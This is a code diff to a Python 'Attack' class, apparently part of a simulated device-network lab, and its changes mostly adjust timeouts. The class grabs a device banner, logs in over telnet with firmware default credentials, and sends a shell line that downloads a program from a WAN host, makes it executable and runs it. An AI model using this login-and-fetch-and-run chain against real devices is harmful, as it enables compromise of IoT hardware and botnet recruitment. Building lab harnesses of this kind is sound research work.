@@ -14,6 +14,7 @@ from dataclasses import dataclass
 import telnet
 from firmware import BANNER, STANDIN, WEB_PASSWORD, WEB_USER
 from net import WAN
+from place import PATIENCE
 
 #: Each attack's program has a name of its own, and tells it.
 NUMBERS = itertools.count(1)
@@ -46,9 +47,9 @@ class Attack:
         self.net, self.where, self.address, self.asked = net, where, address, asked
         self.version = 6 if ":" in address else 4
 
-    def every_stage(self):
-        """All four, each tried whatever became of those before."""
-        return [self.banner(), self.telnet(), self.login(), self.program()]
+    def every_stage(self, seconds=2):
+        """All four, each tried whatever became of those before. He waits so long for what must come."""
+        return [self.banner(), self.telnet(), self.login(), self.program(seconds)]
 
     def banner(self):
         """What the page says of the device."""
@@ -80,7 +81,7 @@ class Attack:
                         f"{name} http://{WAN[4]}/program; chmod 777 {name}; ./{name} ran {WAN[4]} 80 {name}; done; "
                         "echo $((40+2)).")
             ended = session.hear(b"42.", seconds)
-        deadline = time.monotonic() + 1
+        deadline = time.monotonic() + seconds / 2
         while not self.ran(name) and time.monotonic() < deadline:
             time.sleep(0.05)
         shown = session.text.decode("utf-8", "replace").splitlines()
@@ -113,7 +114,7 @@ class Attack:
         asking.sock = made
         try:
             made.connect((self.address, 80))
-            made.settimeout(5)
+            made.settimeout(PATIENCE)
             asking.request("GET", path, headers={"Authorization": f"Basic {credential}"} if credential else {})
             got = asking.getresponse()
             return got.status, got.getheader("Server"), got.read().decode("utf-8", "replace")
